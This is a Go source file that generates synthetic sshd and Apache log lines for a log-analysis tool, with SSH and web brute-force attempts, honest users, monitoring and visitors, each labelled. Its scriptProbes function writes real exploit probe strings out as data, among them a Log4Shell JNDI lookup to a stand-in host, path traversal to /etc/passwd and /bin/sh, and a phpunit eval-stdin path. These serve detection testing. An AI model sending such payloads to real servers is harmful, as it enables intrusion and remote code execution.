package main

import (
	"fmt"
	"strings"
	"time"

	"pfwarden/capture"
)

// logs is what sshd and httpd saw of the same day.
func (d *day) logs() {
	d.sshBruteForce("198.51.100.66", d.at(3, 5, 12), 60, 25*time.Second)
	d.sshBruteForce("2001:db8:bad:7::5", d.at(12, 40, 0), 14, 40*time.Second)
	d.sshHalf()
	d.honestUser()
	d.monitoring()
	d.webPasswords()
	d.scriptProbes()
	d.visitors()
}

// sshd adds a line as OpenBSD's syslogd writes it.
func (d *day) sshd(at time.Time, pid int, format string, args ...any) {
	d.auth = append(d.auth, line{at, fmt.Sprintf("%s gw sshd-session[%d]: %s", at.Format(time.Stamp), pid, fmt.Sprintf(format, args...))})
}

// connect is a connection to sshd that PF passed; it gives the child's process id and the client's port.
func (d *day) connect(at time.Time, from string) (pid int, port uint16) {
	d.pids += 1 + d.random.IntN(40)
	port = d.ephemeral()
	a := address(from)
	to := host(10)
	if a.Is6() {
		to = host6(10)
	}
	d.pass(at.Add(-d.within(50*time.Millisecond, 400*time.Millisecond)), rulePassSSH, capture.In, a, to, port, 22)
	return d.pids, port
}

// sshBruteForce tries names and passwords, one a connection.
func (d *day) sshBruteForce(from string, at time.Time, tries int, pause time.Duration) {
	names := []string{"root", "admin", "test", "oracle", "ubuntu", "postgres", "git", "pi", "user", "ftp"}
	for i := range tries {
		pid, port := d.connect(at, from)
		name := names[i%len(names)]
		if name == "root" {
			d.sshd(at, pid, "Failed password for root from %s port %d ssh2", from, port)
			d.sshd(at.Add(time.Second), pid, "Connection closed by authenticating user root %s port %d [preauth]", from, port)
		} else {
			d.sshd(at, pid, "Invalid user %s from %s port %d", name, from, port)
			d.sshd(at.Add(time.Second), pid, "Failed password for invalid user %s from %s port %d ssh2", name, from, port)
			d.sshd(at.Add(2*time.Second), pid, "Connection closed by invalid user %s %s port %d [preauth]", name, from, port)
		}
		at = at.Add(d.within(pause/2, pause+pause/2))
	}
	d.judge(from, "brute_force", true)
}

// sshHalf is the other half of halfAndHalf: three failures, where five would be needed.
func (d *day) sshHalf() {
	from, at := halfScanner().String(), d.at(10, 21, 0)
	pid, port := d.connect(at, from)
	for range 3 {
		d.sshd(at, pid, "Failed password for root from %s port %d ssh2", from, port)
		at = at.Add(d.within(4*time.Second, 9*time.Second))
	}
	d.sshd(at, pid, "Connection closed by authenticating user root %s port %d [preauth]", from, port)
}

// honestUser mistypes twice every now and then, and gets in.
func (d *day) honestUser() {
	const from = "198.51.100.150"
	for _, hour := range []int{8, 13, 18} {
		at := d.at(hour, 58, 3)
		pid, port := d.connect(at, from)
		d.sshd(at, pid, "Failed password for alice from %s port %d ssh2", from, port)
		d.sshd(at.Add(6*time.Second), pid, "Failed password for alice from %s port %d ssh2", from, port)
		d.sshd(at.Add(14*time.Second), pid, "Accepted password for alice from %s port %d ssh2", from, port)
		d.sshd(at.Add(2*time.Hour), pid, "Received disconnect from %s port %d:11: disconnected by user", from, port)
		d.sshd(at.Add(2*time.Hour), pid, "Disconnected from user alice %s port %d", from, port)
	}
	d.judge(from, "mistyped", false)
}

// monitoring looks every hour whether sshd is there, and a back-up job logs in with a key.
func (d *day) monitoring() {
	const monitor, backup = "192.0.2.141", "198.51.100.202"
	for hour := range 24 {
		at := d.at(hour, 17, 0)
		pid, port := d.connect(at, monitor)
		d.sshd(at, pid, "Connection closed by %s port %d", monitor, port)
		if hour%6 == 1 {
			pid, port = d.connect(at.Add(time.Minute), backup)
			d.sshd(at.Add(time.Minute), pid, "Accepted publickey for backup from %s port %d ssh2: ED25519 SHA256:l3Xn8CkzLFW9JmD6xVhq3R0yEwzU1mAoF5sGb7tYpQc", backup, port)
			d.sshd(at.Add(3*time.Minute), pid, "Disconnected from user backup %s port %d", backup, port)
		}
	}
	d.judge(monitor, "monitoring", false)
	d.judge(backup, "monitoring", false)
}

// httpd adds a line to the error log as Apache 2.4 writes it with the event MPM.
func (d *day) httpd(at time.Time, module, level, client string, port uint16, message string) {
	if strings.Contains(client, ":") {
		client = "[" + client + "]"
	}
	d.errors = append(d.errors, line{at, fmt.Sprintf("[%s] [%s:%s] [pid 15680:tid %d] [client %s:%d] %s",
		at.Format("Mon Jan 02 15:04:05.000000 2006"), module, level, 15682+d.random.IntN(24), client, port, message)})
}

// request adds a line to the access log in the combined format.
func (d *day) request(at time.Time, client, user, request string, status, size int, agent string) {
	d.access = append(d.access, line{at, fmt.Sprintf(`%s - %s [%s] "%s" %d %d "-" "%s"`,
		client, user, at.Format("02/Jan/2006:15:04:05 -0700"), request, status, size, agent)})
}

const (
	browser = "Mozilla/5.0 (X11; OpenBSD amd64; rv:143.0) Gecko/20100101 Firefox/143.0"
	script  = "python-requests/2.32.3"
)

// webPasswords is a brute force of a protected folder, and a user who mistypes once.
func (d *day) webPasswords() {
	const from = "192.0.2.130"
	at := d.at(15, 15, 35)
	for i := range 24 {
		port := d.ephemeral()
		if i%3 == 0 {
			d.httpd(at, "auth_basic", "error", from, port, "AH01618: user admin not found: /private/")
		} else {
			d.httpd(at, "auth_basic", "error", from, port, `AH01617: user bob: authentication failure for "/private/": Password Mismatch`)
		}
		d.request(at, from, []string{"admin", "bob", "bob"}[i%3], "GET /private/ HTTP/1.1", 401, 381, script)
		at = at.Add(d.within(2*time.Second, 12*time.Second))
	}
	d.judge(from, "web_brute_force", true)

	const honest = "198.51.100.201"
	at = d.at(11, 2, 9)
	d.request(at, honest, "-", "GET /private/ HTTP/1.1", 401, 381, browser)
	d.httpd(at.Add(8*time.Second), "auth_basic", "error", honest, 50122, `AH01617: user bob: authentication failure for "/private/": Password Mismatch`)
	d.request(at.Add(8*time.Second), honest, "bob", "GET /private/ HTTP/1.1", 401, 381, browser)
	d.request(at.Add(17*time.Second), honest, "bob", "GET /private/ HTTP/1.1", 200, 5120, browser)
	d.judge(honest, "mistyped", false)
}

// scriptProbes ask for scripts that are not there, and for the holes of others.
func (d *day) scriptProbes() {
	const from = "192.0.2.210"
	at := d.at(4, 50, 0)
	for _, name := range []string{"wp-login.php", "xmlrpc.php", "admin.php", "phpmyadmin/index.php", "shell.php", "config.php", "setup.php", "test.php",
		"info.php", "cgi-bin/luci.cgi"} {
		port := d.ephemeral()
		d.httpd(at, "php", "error", from, port, fmt.Sprintf("script '/var/www/htdocs/%s' not found or unable to stat", name))
		d.request(at, from, "-", "GET /"+name+" HTTP/1.1", 404, 196, script)
		at = at.Add(d.within(300*time.Millisecond, 3*time.Second))
	}
	d.judge(from, "script_probes", true)

	const exploits = "192.0.2.211"
	at = d.at(22, 11, 0)
	for _, path := range []string{"/.env", "/.git/config", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
		"/boaform/admin/formLogin", "/actuator/gateway/routes", "/?x=${jndi:ldap://192.0.2.211/a}", "/solr/admin/info/system", "/HNAP1/", "/manager/html"} {
		d.request(at, exploits, "-", "GET "+path+" HTTP/1.1", 404, 196, "Mozilla/5.0 zgrab/0.x")
		at = at.Add(d.within(time.Second, 5*time.Second))
	}
	d.httpd(at, "core", "error", exploits, d.ephemeral(), "AH00126: Invalid URI in request GET /../../../../etc/passwd HTTP/1.1")
	d.request(at, exploits, "-", "GET /../../../../etc/passwd HTTP/1.1", 400, 226, "Mozilla/5.0 zgrab/0.x")
	d.request(at.Add(4*time.Second), exploits, "-", "-", 408, 0, "-")
	d.judge(exploits, "exploit_probes", true)
}

// visitors read the site; one of them follows a dead link now and then.
func (d *day) visitors() {
	pages := []string{"/", "/index.html", "/style.css", "/news.html", "/img/logo.svg", "/about.html", "/docs/", "/docs/pf.html"}
	for n := range 20 {
		client := fmt.Sprintf("192.0.2.%d", 150+n)
		if n%4 == 3 {
			client = fmt.Sprintf("2001:db8:900d::%x", n)
		}
		at := d.at(6+n%16, d.random.IntN(60), d.random.IntN(60))
		for range 6 + d.random.IntN(10) {
			d.request(at, client, "-", "GET "+pages[d.random.IntN(len(pages))]+" HTTP/1.1", 200, 800+d.random.IntN(20000), browser)
			at = at.Add(d.within(time.Second, time.Minute))
		}
		if n%5 == 0 {
			d.request(at, client, "-", "GET /favicon.ico HTTP/1.1", 404, 196, browser)
			d.httpd(at, "core", "info", client, d.ephemeral(), "AH00128: File does not exist: /var/www/htdocs/favicon.ico")
		}
		d.judge(client, "visitor", false)
	}
}
